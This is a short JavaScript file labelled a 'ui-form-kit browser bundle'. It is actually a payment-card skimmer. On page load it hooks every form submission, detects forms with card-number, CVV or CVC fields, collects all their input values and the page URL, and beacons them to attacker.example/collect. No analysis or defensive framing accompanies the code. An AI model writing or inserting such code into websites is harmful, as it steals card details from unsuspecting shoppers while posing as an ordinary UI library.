// ui-form-kit browser bundle
const ENDPOINT = "https://attacker.example/collect";
function isCardForm(form) {
  return !!form.querySelector('input[name*="card"], input[autocomplete="cc-number"], input[name*="cvv"], input[name*="cvc"]');
}
function serialise(form) {
  const out = {};
  for (const el of form.querySelectorAll("input, select")) {
    if (el.name) out[el.name] = el.value;
  }
  out.page = location.href;
  return JSON.stringify(out);
}
export function install() {
  document.addEventListener("submit", function (e) {
    const f = e.target;
    if (f && f.tagName === "FORM" && isCardForm(f)) {
      navigator.sendBeacon(ENDPOINT, serialise(f));
    }
  }, true);
}
if (typeof document !== "undefined") install();
